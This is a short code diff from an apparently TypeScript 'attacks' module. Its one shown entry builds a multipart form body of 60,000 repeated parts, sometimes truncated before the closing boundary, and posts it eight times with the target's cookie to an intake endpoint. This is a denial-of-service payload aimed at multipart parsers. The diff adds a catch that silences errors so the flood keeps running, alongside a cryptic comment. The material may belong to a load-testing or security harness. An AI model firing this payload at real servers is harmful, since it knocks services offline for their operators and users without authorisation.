@@ -194,7 +194,8 @@ export const attacks = {
     const part = '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n'
     const many = `${part.repeat(60_000)}--x--\r\n`
     const type = 'multipart/form-data; boundary=x'
-    return again(8, n => post(intake(target), target.cook, n % 2 ? many : many.slice(0, -5), type))
+    // The line is closed in the middle of it: no reason for him to pause.
+    return again(8, n => post(intake(target), target.cook, n % 2 ? many : many.slice(0, -5), type).catch(() => {}))
   },
 } satisfies Record<string, (target: Target) => Promise<unknown>>
 
